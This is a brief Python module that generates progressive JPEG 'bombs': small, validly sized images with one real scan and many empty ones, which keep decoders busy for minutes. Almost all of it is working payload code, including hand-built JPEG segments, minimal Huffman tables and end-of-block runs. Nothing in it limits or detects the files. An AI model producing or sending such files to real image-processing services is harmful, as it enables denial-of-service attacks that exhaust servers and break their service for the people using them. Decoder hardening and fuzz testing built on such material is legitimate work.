"""Progressive JPEG files with very many empty scans: few bytes, allowed pixels, minutes to decode."""

import struct


def jpeg_bomb(width: int, height: int, scans: int) -> bytes:
    """A grey picture that decoders take, drawn over `scans` times in all."""
    blocks = -(-width // 8) * -(-height // 8)
    first = _segment(0xDA, bytes([1, 1, 0, 0, 0, 0])) + b"\0" * -(-blocks // 8)
    empty = _segment(0xDA, bytes([1, 1, 0, 1, 63, 0])) + _end_of_block_runs(blocks)
    head = [
        b"\xff\xd8",
        _segment(0xDB, b"\0" + b"\1" * 64),
        _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + bytes([1, 0x11, 0])),
        _segment(0xC4, bytes([0x00, 1, *[0] * 15, 0x00])),  # DC: the only code stands for no difference
        _segment(0xC4, bytes([0x10, 1, *[0] * 15, 0xE0])),  # AC: the only code begins a run of empty blocks
    ]
    return b"".join([*head, first, *[empty] * (scans - 1), b"\xff\xd9"])


def _segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def _end_of_block_runs(blocks: int) -> bytes:
    bits = ""
    while blocks > 0:
        run = max(16384, min(blocks, 32767))
        bits += "0" + format(run - 16384, "014b")
        blocks -= run
    bits += "1" * (-len(bits) % 8)
    return bytes(int(bits[at : at + 8], 2) for at in range(0, len(bits), 8)).replace(b"\xff", b"\xff\0")
